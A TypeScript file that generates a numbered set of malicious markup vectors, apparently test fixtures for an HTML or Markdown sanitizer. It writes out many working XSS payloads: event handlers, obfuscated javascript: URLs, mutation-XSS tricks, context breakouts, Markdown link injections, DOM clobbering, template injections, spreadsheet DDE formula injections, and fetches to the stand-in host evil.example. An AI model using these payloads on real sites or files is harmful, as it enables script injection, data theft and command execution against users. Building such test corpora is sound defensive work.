/**
 * Markup that means harm, made for this project: a table of families, each over its own dimensions. Every vector that can run calls `pwn` with
 * its number, every one that can fetch asks `https://evil.example/`, so that whoever watches knows which it was.
 */
export interface Vector {
  number: number;
  family: string;
  /** The markup as it comes in. */
  text: string;
  /** Put into a page as it is, it does something by itself, or when a reader clicks, points or types. */
  acts: boolean;
}

const across = <A, B>(as: readonly A[], bs: readonly B[], make: (a: A, b: B) => Make): Make[] => as.flatMap((a) => bs.map((b) => make(a, b)));

const image: Make = (call) => `<img src=x onerror=${call}>`;

/** Elements with the event that fires on them, by itself or when a reader comes near. */
const handlers = [
  ['img', 'onerror', 'src=x'],
  ['img', 'onload', 'src="data:image/gif;base64,R0lGODlhAQABAAAAACw="'],
  ['svg', 'onload', ''],
  ['body', 'onload', ''],
  ['body', 'onpageshow', ''],
  ['body', 'onfocus', ''],
  ['input', 'onfocus', 'autofocus'],
  ['input', 'oninput', ''],
  ['textarea', 'onfocus', 'autofocus'],
  ['select', 'onfocus', 'autofocus'],
  ['button', 'onclick', ''],
  ['a', 'onclick', 'href="#x"'],
  ['a', 'onmouseover', 'href="https://a.example/"'],
  ['a', 'onfocus', 'href="#x" id=x tabindex=0'],
  ['a', 'ondragstart', 'href="#x" draggable=true'],
  ['p', 'onclick', ''],
  ['p', 'onpointerenter', ''],
  ['p', 'onmousemove', ''],
  ['em', 'onmouseover', ''],
  ['em', 'onpointerdown', ''],
  ['strong', 'onmouseenter', ''],
  ['q', 'oncopy', ''],
  ['cite', 'onkeydown', 'tabindex=0'],
  ['abbr', 'onfocusin', 'tabindex=0'],
  ['bdi', 'onwheel', ''],
  ['sub', 'oncontextmenu', ''],
  ['span', 'ondblclick', ''],
  ['span', 'onanimationstart', 'style="animation:x 1s"'],
  ['ol', 'onclick', ''],
  ['h2', 'onpaste', 'contenteditable'],
  ['details', 'ontoggle', 'open'],
  ['video', 'onerror', 'src=x'],
  ['video', 'onloadstart', 'src=x'],
  ['audio', 'onerror', 'src=x'],
  ['object', 'onerror', 'data=x'],
  ['iframe', 'onload', ''],
  ['link', 'onerror', 'rel=stylesheet href=x'],
  ['script', 'onerror', 'src=x'],
  ['style', 'onload', ''],
  ['dialog', 'onbeforetoggle', 'popover'],
  ['custom-card', 'onclick', ''],
] as const;

/** Spellings of `javascript:` that a browser, or a careless check, takes for it. */
const spellings: Record<string, string> = {
  plain: 'javascript:',
  'mixed case': 'jAvAsCrIpT:',
  'a tab within': 'java\tscript:',
  'a line end within': 'java\nscript:',
  'a blank before': '  javascript:',
  'a control before': '\u0001javascript:',
  'a decimal entity': '&#106;avascript:',
  'an entity without its end': '&#0000106avascript:',
  'a hexadecimal entity': '&#x6A;avascript:',
  'all entities': '&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;',
  'a named colon': 'javascript&colon;',
  'a named tab': 'java&Tab;script:',
  'a named line end': 'java&NewLine;script:',
};
const crooked: Record<string, string> = {
  'percent signs': 'javascript%3A',
  'a no-break space before': '\u00a0javascript:',
  'a zero-width space within': 'java\u200bscript:',
  'full-width letters': 'ｊavascript:',
  'a backslash': 'java\\script:',
  'a null': 'java\u0000script:',
  'a view of its source': 'view-source:javascript:',
  'feed before': 'feed:javascript:',
};

const carriers: ((address: string) => string)[] = [
  (address) => `<a href="${address}">go</a>`,
  (address) => `<iframe src="${address}"></iframe>`,
  (address) => `<form action="${address}"><button>go</button></form>`,
  (address) => `<svg><a xlink:href="${address}"><text y=20>go</text></a></svg>`,
];

const otherAddresses = [
  'data:text/html,<script>pwn(0)</script>',
  'data:text/html;base64,PHNjcmlwdD5wd24oMCk8L3NjcmlwdD4=',
  'DATA:image/svg+xml,<svg onload=pwn(0)>',
  'vbscript:MsgBox(1)',
  'VbScRiPt:Execute(1)',
  'livescript:pwn(0)',
  'mocha:pwn(0)',
  'blob:https://evil.example/1',
  'filesystem:https://evil.example/1',
  'file:///etc/passwd',
  'jar:https://evil.example/!/x',
  'intent://evil.example#Intent;end',
  'about:blank',
  'ws://evil.example/',
  '//evil.example/',
  '\\\\evil.example\\x',
  '/\\evil.example/',
  'https:evil.example',
  'http:/evil.example',
  'claim:"onclick="pwn(0)',
  'actor:../../evil',
  'actor://evil.example/',
  'topic:javascript:pwn(0)',
  'note:x"><script>pwn(0)</script>',
];

/** Elements that ask another host for something. */
const fetches: ((address: string) => string)[] = [
  (address) => `<img src="${address}">`,
  (address) => `<img srcset="${address} 1x">`,
  (address) => `<picture><source srcset="${address}"><img></picture>`,
  (address) => `<input type=image src="${address}">`,
  (address) => `<video src="${address}"></video>`,
  (address) => `<video poster="${address}"></video>`,
  (address) => `<audio src="${address}" autoplay></audio>`,
  (address) => `<video autoplay><source src="${address}"></video>`,
  (address) => `<video src="data:video/mp4," autoplay><track default src="${address}"></video>`,
  (address) => `<iframe src="${address}"></iframe>`,
  (address) => `<embed src="${address}">`,
  (address) => `<object data="${address}"></object>`,
  (address) => `<script src="${address}"></script>`,
  (address) => `<script type=module src="${address}"></script>`,
  (address) => `<link rel=stylesheet href="${address}">`,
  (address) => `<link rel=prefetch href="${address}">`,
  (address) => `<link rel=preload as=image href="${address}">`,
  (address) => `<link rel=modulepreload href="${address}">`,
  (address) => `<link rel=icon href="${address}">`,
  (address) => `<link rel=manifest href="${address}">`,
  (address) => `<style>@import "${address}";</style>`,
  (address) => `<style>body{background:url(${address})}</style>`,
  (address) => `<p style="background:url(${address})">x</p>`,
  (address) => `<em style="list-style:url('${address}');display:list-item">x</em>`,
  (address) => `<span style="border-image:url(${address}) 1;border:1px solid">x</span>`,
  (address) => `<style>@font-face{font-family:x;src:url(${address})}p{font-family:x}</style><p>x</p>`,
  (address) => `<svg><image href="${address}" width=9 height=9 /></svg>`,
  (address) => `<svg><feImage href="${address}"/><use href="${address}#x"/></svg>`,
  (address) => `<svg><filter id=f><feImage href="${address}"/></filter><rect width=9 height=9 filter="url(#f)"/></svg>`,
  (address) => `<body background="${address}">`,
  (address) => `<table background="${address}"><tr><td>x</table>`,
  (address) => `<meta http-equiv=refresh content="0;url=${address}">`,
  (address) => `<base href="${address}"><img src=y>`,
  (address) => `<a href="https://a.example/" ping="${address}">x</a>`,
  (address) => `<form action="${address}"><input name=a><button>go</button></form>`,
  (address) => `<form><button formaction="${address}">go</button></form>`,
  (address) => `<a href="${address}" target=_blank download>x</a>`,
  (address) => `<map name=m><area href="${address}" shape=default></map>`,
  (address) => `<q cite="${address}">x</q>`,
  (address) => `<html manifest="${address}">`,
];

/** Where a text may stand in a page, and what closes it there. */
const closers = [
  '</title>',
  '</style>',
  '</script>',
  '</textarea>',
  '</noscript>',
  '</template>',
  '</xmp>',
  '</iframe>',
  '</svg>',
  '</math>',
  '</p>',
  '</a>',
  '</main>',
  '-->',
  '--!>',
  ']]>',
  '">',
  "'>",
  '`>',
  '*/',
  '");',
  '\\u003c/script\\u003e',
  '</li></ol>',
  '?>',
];
const payloads: Make[] = [image, (call) => `<script>${call}</script>`, (call) => `<svg/onload=${call}>`];

/** Markup that changes its meaning when it is read a second time. */
const mutations: Make[] = [
  (call) => `<svg><p><style><g title="</style><img src=x onerror=${call}>">`,
  (call) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${call}&gt;">`,
  (call) => `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${call}>`,
  (call) => `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  (call) => `<template><p title="</template><img src=x onerror=${call}>">`,
  (call) => `<svg></p><style><a id="</style><img src=1 onerror=${call}>">`,
  (call) => `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${call}></style></annotation-xml></math>`,
  (call) => `<svg><foreignObject><p><img src=x onerror=${call}></p></foreignObject></svg>`,
  (call) => `<svg><desc><img src=x onerror=${call}></desc></svg>`,
  (call) => `<svg><title><img src=x onerror=${call}></title></svg>`,
  (call) => `<svg><style><img src=x onerror=${call}></style></svg>`,
  (call) => `<math><mi><img src=x onerror=${call}></mi></math>`,
  (call) => `<table><p><img src=x onerror=${call}></table>`,
  (call) => `<select><option><img src=x onerror=${call}></select>`,
  (call) => `<p><button><p><img src=x onerror=${call}></button>`,
  (call) => `<a href="https://a.example/"><table><a href=x><img src=x onerror=${call}>`,
  (call) => `<em><p><em><p><img src=x onerror=${call}></em>`,
  (call) => `<listing>&lt;img src=x onerror=${call}&gt;</listing><img src=x onerror=${call}>`,
  (call) => `<textarea></textarea ><img src=x onerror=${call}>`,
  (call) => `<title></title ><img src=x onerror=${call}>`,
  (call) => `<svg><![CDATA[><img src=x onerror=${call}>]]></svg>`,
  (call) => `<!--><img src=x onerror=${call}>-->`,
  (call) => `<!--x--!><img src=x onerror=${call}>`,
  (call) => `<?x><img src=x onerror=${call}>?>`,
  (call) => `<!x><img src=x onerror=${call}>`,
  (call) => `</x><img src=x onerror=${call}>`,
  (call) => `<abbr title="a&quot;b"><img src=x onerror=${call}></abbr>`,
  (call) => `<isindex><keygen><image src=x onerror=${call}>`,
];
const idleMutations: Make[] = [
  (call) => `<abbr title="<img src=x onerror=${call}>">a</abbr>`,
  (call) => `<abbr title='"><img src=x onerror=${call}>'>a</abbr>`,
  (call) => `<noembed><img src=x onerror=${call}></noembed>`,
  (call) => `<xmp><img src=x onerror=${call}></xmp>`,
  (call) => `<plaintext><img src=x onerror=${call}>`,
  (call) => `<!-- <img src=x onerror=${call}> -->`,
  (call) => `<textarea><img src=x onerror=${call}>`,
  (call) => `<title><img src=x onerror=${call}></title>`,
  (call) => `<template><img src=x onerror=${call}></template>`,
];

const scripts: Make[] = [
  (call) => `<script>${call}</script>`,
  (call) => `<SCRIPT>${call}</SCRIPT>`,
  (call) => `<script type="module">${call}</script>`,
  (call) => `<script\n>${call}</script\n>`,
  (call) => `<script/x>${call}</script>`,
  (call) => `<script>/*<b>*/${call}</script>`,
  (call) => `<script>${call}`.concat('</script foo>'),
  (call) => `<svg><script>${call}</script></svg>`,
  (call) => `<svg><script>&#x70;${call.slice(1)}</script></svg>`,
  (call) => `<math><script>1</script></math><script>${call}</script>`,
  (call) => `<script src="data:text/javascript,${call}"></script>`,
  (call) => `<script>setTimeout("${call}")</script>`,
  (call) => `<script>import("data:text/javascript,${call}")</script>`,
  (call) => `<iframe srcdoc="<script>${call}</script>"></iframe>`,
  (call) => `<iframe srcdoc="&lt;img src=x onerror=${call}&gt;"></iframe>`,
  (call) => `<iframe src="data:text/html,<script>${call}</script>"></iframe>`,
  (call) => `<object data="data:text/html,<script>${call}</script>"></object>`,
  (call) => `<embed src="data:text/html,<script>${call}</script>">`,
  (call) => `<a href="https://a.example/"><script>${call}</script></a>`,
  (call) => `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  (call) => `<svg><set onbegin=${call} attributeName=x to=1>`,
  (call) => `<svg><a><animate attributeName=href values="javascript:${call}"/><text y=20>go</text></a></svg>`,
  (call) => `<img/src=x/onerror=${call}>`,
  (call) => `<img\fsrc=x\fonerror=${call}>`,
  (call) => `<img src=x onerror\n=\n${call}>`,
  (call) => `<img src=x onerror="&#112;${call.slice(1)}">`,
  (call) => `<img src=x ONERROR=${call}>`,
  (call) => `<img """><script>${call}</script>">`,
  (call) => `<<img src=x onerror=${call}>`,
  (call) => `<img src="x\` onerror=1" onerror=${call}>`,
  (call) => `<div><input autofocus onfocus=${call}></div>`,
  (call) => `<marquee onstart=${call}>x</marquee><img src=x onerror=${call}>`,
];
const idleScripts: Make[] = [
  (call) => `<script language=vbs>${call}</script>`,
  (call) => `<script type="text/template">${call}</script>`,
  (call) => `< script >${call}</ script >`,
  (call) => `&lt;script&gt;${call}&lt;/script&gt;`,
  (call) => `\\<script>${call}\\</script>`,
  (call) => `%3Cscript%3E${call}%3C/script%3E`,
  (call) => `\\x3cscript\\x3e${call}\\x3c/script\\x3e`,
  (call) => `＜script＞${call}＜/script＞`,
  (call) => `+ADw-script+AD4-${call}+ADw-/script+AD4-`,
  (call) => `<scr\u0000ipt>${call}</scr\u0000ipt>`,
  (call) => `\u00c0\u00bcscript>${call}\u00c0\u00bc/script>`,
  (call) => `¼script¾${call}¼/script¾`,
  (call) => `<style>p{width:expression(${call})}</style>`,
  (call) => `<p style="behavior:url(#x);-moz-binding:url(x#${call})">x</p>`,
  (call) => `<xml id=x><a><b>${call}</b></a></xml>`,
  (call) => `<xss style="xss:expr/*x*/ession(${call})">x</xss>`,
  (call) => `<portal src="javascript:${call}">`,
  (call) => `<applet code="${call}">x</applet>`,
  (call) => `<frameset onload=${call}><frame></frameset>`,
  (call) => `<bgsound src="javascript:${call}">`,
];

/** What Markdown makes of it matters. */
const markdown: Make[] = [
  (call) => `[x](javascript:${call})`,
  (call) => `[x](<javascript:${call}>)`,
  (call) => `[x](javascript&#58;${call})`,
  (call) => `[x](java&Tab;script:${call})`,
  (call) => `[x](&#x6A;avascript:${call})`,
  (call) => `[x](\\javascript:${call})`,
  (call) => `[x](javascript\\:${call})`,
  (call) => `[x](JAVASCRIPT:${call})`,
  (call) => `<javascript:${call}>`,
  (call) => `<JaVaScRiPt:${call}>`,
  () => `<data:text/html,x>`,
  (call) => `[x][r]\n\n[r]: javascript:${call}`,
  (call) => `[r]\n\n[r]: <javascript:${call}> "t"`,
  (call) => `![x](javascript:${call})`,
  (_, address) => `![x](${address})`,
  (_, address) => `![x][i]\n\n[i]: ${address}`,
  (_, address) => `[![x](${address})](https://a.example/)`,
  (call) => `[x](https://a.example/ "t\\" onmouseover=${call} x=")`,
  (call) => `[x](https://a.example/ 't" onmouseover="${call}')`,
  (call) => `[x](https://a.example/ (t"><img src=x onerror=${call}>))`,
  (call) => `[x](https://a.example/"onmouseover="${call})`,
  (call) => `[x](https://a.example/?"><img/src=x/onerror=${call}>)`,
  (call) => `[x](<https://a.example/?"><img src=x onerror=${call}>)`,
  (call) => `[a](actor:b "c\\" onclick=${call} d=\\"")`,
  (call) => `[a](actor:b "<img src=x onerror=${call}>")`,
  (call) => `[a](actor:b "</i></a><script>${call}</script>")`,
  (call) => `[a](actor:"onclick="${call})`,
  (call) => `[a](actor:javascript:${call})`,
  (call) => `[<img src=x onerror=${call}>](claim:a)`,
  (call) => `[<b onclick=${call}>x</b>](claim:a)`,
  (call) => `[\\<img src=x onerror=${call}\\>](claim:a)`,
  (call) => `[a[b](javascript:${call})](claim:a)`,
  (call) => `[a](claim:a"onclick="${call})`,
  (call) => `[a](<claim:a" onclick="${call}>)`,
  (call) => `## <img src=x onerror=${call}>`,
  (call) => `## [x](javascript:${call})`,
  (call) => `1. <img src=x onerror=${call}>`,
  (call) => `1. x\n\n   <script>${call}</script>`,
  (call) => `- <svg onload=${call}>`,
  (call) => `> <img src=x onerror=${call}>`,
  (call) => `| <img src=x onerror=${call}> |\n| --- |`,
  (call) => `\`<img src=x onerror=${call}>\``,
  (call) => `\`\`\`html\n<img src=x onerror=${call}>\n\`\`\``,
  (call) => `\`\`\`" onclick=${call}\nx\n\`\`\``,
  (call) => `    <img src=x onerror=${call}>`,
  (call) => `**<img src=x onerror=${call}>**`,
  (call) => `*a<em onclick=${call}>*b</em>`,
  (call) => `x[^1]\n\n[^1]: <img src=x onerror=${call}>`,
  (call) => `<a href="\njavascript:${call}\n">x</a>`,
  (call) => `<a\nhref="javascript:${call}"\n>x</a>`,
  (call) => `<div\n\nonclick=${call}>x</div>`,
  (call) => `<em>\n\n<img src=x onerror=${call}>\n\n</em>`,
  (call) => `x <img src=x\nonerror=${call}>`,
];

const properties = [
  'location',
  'forms',
  'body',
  'cookie',
  'getElementById',
  'CSS',
  '__proto__',
  'constructor',
  'nodeName',
  'attributes',
  'children',
  'customElements',
];
const clobbering: Make[] = properties.flatMap((name): Make[] => [
  () => `<a id="${name}" name="${name}" href="https://a.example/">x</a>`,
  () => `<form id=${name}><input name=${name}></form>`,
]);

const templates = (call: string) => [
  `{{${call}}}`,
  `{{constructor.constructor('${call}')()}}`,
  `{%raw%}${call}{%endraw%}`,
  `\${${call}}`,
  `#{${call}}`,
  `<%= ${call} %>`,
  `<?= ${call} ?>`,
  `{${call}}`,
  `[[${call}]]`,
  `<slot name="${call}" />`,
  `<Fragment set:html={${call}} />`,
  `---\nimport "${call}"\n---`,
  `<!--#exec cmd="${call}" -->`,
  `<esi:include src="${call}"/>`,
  `@import "${call}";`,
  `{"__proto__":{"x":"${call}"}}`,
  `","x":${call},"y":"`,
  `\u2028${call}\u2029`,
  `\u202e${call}`,
  `%00${call}`,
  `'-${call}-'`,
  `';${call}//`,
  `\\';${call}//`,
  `";${call}//`,
  `*/${call}/*`,
  `__proto__ constructor toString hasOwnProperty ${call}`,
];

/** What a spreadsheet takes for a formula. */
const formulas: Make[] = [
  (_, address) => `=HYPERLINK("${address}","see")`,
  (_, address) => `=WEBSERVICE("${address}")`,
  (_, address) => `=IMAGE("${address}")`,
  () => `=cmd|'/C calc'!A0`,
  () => `+cmd|'/C calc'!A0`,
  () => `-cmd|'/C calc'!A0`,
  () => `-2+3+cmd|'/C calc'!A0`,
  () => `@SUM(1+1)*cmd|'/C calc'!A0`,
  () => `＝1+1`,
  () => `＋1`,
  () => `－1`,
  () => `＠SUM(1)`,
  () => `=1+1";=1+1`,
  (_, address) => `x",=HYPERLINK("${address}"),"y`,
  (_, address) => `x;=HYPERLINK("${address}")`,
];

const families: Family[] = [
  { family: 'script', acting: scripts, idle: idleScripts },
  {
    family: 'handler',
    acting: handlers.map(
      ([tag, event, rest]) =>
        (call) =>
          `<${tag} ${rest} ${event}="${call}">x</${tag}>`,
    ),
  },
  {
    family: 'javascript address',
    acting: across(Object.values(spellings), carriers, (spelling, carrier) => (call) => carrier(spelling + call)),
    idle: across(Object.values(crooked), carriers.slice(0, 2), (spelling, carrier) => (call) => carrier(spelling + call)),
  },
  {
    family: 'other address',
    idle: across(
      otherAddresses,
      [(address: string) => `[x](<${address.replaceAll('<', '\\<').replaceAll('>', '\\>')}>)`, (address: string) => `<a href='${address}'>x</a>`],
      (address, carrier) => () => carrier(address),
    ),
  },
  {
    family: 'fetch',
    acting: fetches.slice(0, -3).map((make) => (_, address) => make(address)),
    idle: fetches.slice(-3).map((make) => (_, address) => make(address)),
  },
  { family: 'breakout', acting: across(closers, payloads, (closer, payload) => (call, address) => closer + payload(call, address)) },
  { family: 'mutation', acting: mutations, idle: idleMutations },
  { family: 'Markdown', idle: markdown },
  { family: 'clobbering', idle: clobbering },
  { family: 'template', idle: templates('').map((_, index) => (call) => templates(call)[index] ?? '') },
  { family: 'formula', idle: formulas },
];

/** Every vector, numbered from 1. */
export const vectors: readonly Vector[] = families
  .flatMap(({ family, acting = [], idle = [] }) => [
    ...acting.map((make) => ({ family, make, acts: true })),
    ...idle.map((make) => ({ family, make, acts: false })),
  ])
  .map(({ family, make, acts }, index) => ({ number: index + 1, family, text: make(`pwn(${index + 1})`, `https://evil.example/${index + 1}`), acts }));

type Make = (call: string, address: string) => string;
interface Family {
  family: string;
  /** Makes that act where nothing stops them. */
  acting?: Make[];
  /** Makes that do nothing in a browser of today, or only through Markdown, a spreadsheet or a template. */
  idle?: Make[];
}
